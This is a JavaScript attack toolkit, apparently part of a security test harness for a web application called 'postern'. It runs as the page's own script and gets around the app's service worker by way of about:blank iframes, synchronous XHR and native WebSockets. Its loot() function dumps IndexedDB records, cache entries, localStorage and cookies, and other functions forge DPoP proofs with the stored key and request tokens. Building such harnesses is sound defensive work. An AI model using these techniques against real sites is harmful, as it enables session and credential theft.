// What a hostile page has at hand: everything here is ordinary script of the application's origin.
const store = 'records';

const open = () =>
  new Promise((resolve, reject) => {
    const request = indexedDB.open('postern');
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });

const run = async (mode, work) => {
  const database = await open();
  try {
    return await new Promise((resolve, reject) => {
      const request = work(database.transaction(store, mode).objectStore(store));
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  } finally {
    database.close();
  }
};

const base64url = (bytes) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '');
const encode = (value) => base64url(new TextEncoder().encode(JSON.stringify(value)));

/**
 * Globals of a document whose script escapes the service worker (an `about:blank` frame in Chromium),
 * as the browser made them: taken by the frame's index in the turn that made it, which no script of
 * ours can see.
 */
function blankFrame() {
  document.body.append(document.createElement('iframe'));
  const realm = window[window.length - 1];
  const kept = {};
  for (const name of Object.getOwnPropertyNames(realm)) kept[name] = realm[name];
  const cookie = Object.getOwnPropertyDescriptor(realm.Document.prototype, 'cookie');
  const bound = Object.defineProperty({}, 'cookie', {
    get: cookie.get.bind(realm.document),
    set: cookie.set.bind(realm.document),
  });
  return Object.assign(kept, { fetch: realm.fetch.bind(realm), document: bound });
}

const describe = async (response) => ({
  status: response.status,
  type: response.headers.get('content-type'),
  body: (await response.text()).slice(0, 400),
});

window.kit = {
  blankFrame,
  /** The prototype as the browser made it, before our runtime changed the page's own. */
  native: (name) => blankFrame()[name].prototype,
  /** The service worker that controls the page; the page's own runtime shows the application's. */
  controller: () =>
    Object.getOwnPropertyDescriptor(kit.native('ServiceWorkerContainer'), 'controller').get.call(
      navigator.serviceWorker,
    ),
  registrations: () =>
    kit.native('ServiceWorkerContainer').getRegistrations.call(navigator.serviceWorker),
  read: (name) => run('readonly', (records) => records.get(name)),
  write: (name, value) => run('readwrite', (records) => records.put(value, name)),

  /** All that lies in the origin's storages, as text. */
  async loot() {
    const records = await run('readonly', (all) => all.getAll());
    const cached = [];
    const { keys, open } = kit.native('CacheStorage');
    for (const name of await keys.call(caches)) {
      const cache = await open.call(caches, name);
      for (const request of await cache.keys()) cached.push(request.url);
    }
    return JSON.stringify({ records, cached, local: { ...localStorage }, cookie: document.cookie });
  },

  /** Uses, not copies, the worker's key: a DPoP proof for any request. */
  async proof(method, url, token) {
    const { privateKey, publicKey } = await kit.read('appKey');
    const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', publicKey);
    const header = encode({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } });
    const digest = (text) => crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
    const claims = { htm: method, htu: url, iat: Math.floor(Date.now() / 1000) };
    const ath = token === undefined ? {} : { ath: base64url(await digest(token)) };
    const body = `${header}.${encode({ ...claims, jti: crypto.randomUUID(), ...ath })}`;
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' };
    const bytes = new TextEncoder().encode(body);
    return `${body}.${base64url(await crypto.subtle.sign(algorithm, privateKey, bytes))}`;
  },

  /** A token request at the controller, by the page itself. */
  async token(issuer, parameters) {
    const url = `${issuer}/token`;
    const response = await fetch(url, {
      method: 'POST',
      headers: { dpop: await kit.proof('POST', url) },
      body: new URLSearchParams(parameters),
    });
    return { status: response.status, body: await response.json() };
  },

  async dialGrant(apiUrl, token) {
    const url = `${apiUrl}/dial-grants`;
    const response = await fetch(url, {
      method: 'POST',
      headers: { authorization: `DPoP ${token}`, dpop: await kit.proof('POST', url, token) },
    });
    return { status: response.status, body: await response.json() };
  },

  /** Any other request to the controller with a token of ours. */
  async post(url, token, body) {
    const response = await fetch(url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `DPoP ${token}`,
        dpop: await kit.proof('POST', url, token),
      },
      body: JSON.stringify(body),
    });
    return { status: response.status, body: await response.json() };
  },

  /** The ways past the service worker, each with the answer it got. */
  async bypasses(path) {
    const blank = blankFrame();
    const sync = new blank.XMLHttpRequest();
    sync.open('GET', `${path}?by=sync-xhr`, false);
    sync.send();
    const from = async (by, fetcher) => [
      by,
      await describe(await fetcher(new URL(`${path}?by=${by}`, location.href))),
    ];
    const post = (url) =>
      blank.fetch(url, { method: 'POST', body: 'x', credentials: 'include', headers: { a: 'b' } });
    return Object.fromEntries([
      [
        'sync-xhr',
        {
          status: sync.status,
          type: sync.getResponseHeader('content-type'),
          body: sync.responseText,
        },
      ],
      await from('blank-frame', (url) => blank.fetch(url, { credentials: 'include' })),
      await from('blank-frame-post', post),
    ]);
  },

  /** `error` or `open`, of a WebSocket past the worker. */
  nativeWebSocket: (url) =>
    new Promise((resolve) => {
      const socket = new (blankFrame().WebSocket)(url);
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('error');
    }),

  /** Posts a message to the worker with a port; the answer, or `silence`. */
  ask: (message) =>
    new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => resolve(data);
      setTimeout(() => resolve('silence'), 2_000);
      kit.controller().postMessage(message, [port2]);
    }),

  /** Every text the worker says to this page on its own, from now on. */
  listen() {
    const heard = [];
    const native = blankFrame().EventTarget.prototype.addEventListener;
    native.call(navigator.serviceWorker, 'message', ({ data }) => heard.push(data), true);
    return heard;
  },
};
